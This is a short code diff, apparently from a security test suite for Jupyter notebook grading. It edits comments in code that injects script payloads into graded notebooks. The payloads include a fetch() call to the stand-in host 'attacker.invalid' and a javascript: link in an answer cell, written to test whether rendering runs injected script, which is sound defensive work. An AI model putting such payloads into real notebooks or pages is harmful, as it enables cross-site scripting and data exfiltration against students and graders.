@@ -7,10 +7,10 @@ from typing import Any
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
 
-#: Where what runs reports to. No such place exists.
+#: The address to which scripts that run report. It doesn't exist.
 ATTACKER = "http://attacker.invalid"
 
-#: What each attack would run; `%s` is its name. It has no space, so that it can stand without quotes.
+#: The script of each attack; `%s` is its name. It contains no space, so it needs no quotes in HTML.
 SCRIPT = f"document.title='RUN-%s';(window.ran=window.ran||[]).push('%s');fetch('{ATTACKER}/%s')"
 
 _PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
@@ -78,8 +78,8 @@ def _shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Note
 def made_hostile(notebook: NotebookNode, answer: str, check: str) -> str:
     """Add each attack to a graded notebook, and return the notebook as text.
 
-    The notebook stays valid, because others get no grade and nbconvert refuses them. `answer` is the name of
-    an explanation, and `check` that of a check cell.
+    The notebook stays valid, because an invalid one gets no grade, and nbconvert refuses it. `answer` is the
+    name of an explanation, and `check` that of a check cell.
     """
     by_name = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in notebook.cells}
     by_name[answer].source = in_html("answer") + f"\n\n[link](javascript:{script('link')})"
